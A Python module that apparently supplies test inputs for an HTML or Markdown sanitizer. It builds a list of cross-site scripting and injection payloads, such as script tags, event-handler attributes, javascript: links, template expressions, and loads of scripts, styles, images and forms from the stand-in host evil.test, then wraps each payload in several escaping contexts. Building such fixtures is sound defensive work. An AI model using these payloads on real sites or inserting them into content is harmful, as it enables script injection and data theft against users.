"""Texts that try to run script on the page, or to make it ask somebody else for something."""

from __future__ import annotations

from collections.abc import Iterator

_BASES = [
    "<script>alert(1)</script>",
    "<script src=//evil.test/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.test/p.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=//evil.test/o></object>",
    "<embed src=//evil.test/e>",
    "<link rel=stylesheet href=//evil.test/s.css>",
    "<style>@import '//evil.test/s.css'; body{background:url(//evil.test/b)}</style>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video autoplay src=//evil.test/v onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=//evil.test><button autofocus>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<a href=javascript:alert(1) id=question>x</a>",
    "<div style='background:url(//evil.test/d)'>x</div>",
    "<img srcset='//evil.test/a 1x'>",
    "<x onpointerenter=alert(1) style=position:fixed;inset:0>x</x>",
    "[x](javascript:alert(1))",
    "[x](//evil.test/l 'onload=alert(1)')",
    "![x](//evil.test/i.png)",
    "![x](x' onerror='alert(1))",
    "<https://evil.test/auto>",
    "[r]: //evil.test/r\n\n![r]",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\<script\\>alert(1)\\</script\\>",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
]
_AROUND = [
    "{}",
    "**{}**",
    "`{}",
    '"> {}',
    "'); {} //",
    "</script>{}",
    "| a | {} |\n|--|--|\n| {} | b |",
    "</textarea></title></style>{}",
]


def payloads() -> Iterator[str]:
    """Each base in each surrounding."""
    for around in _AROUND:
        for base in _BASES:
            yield around.replace("{}", base)
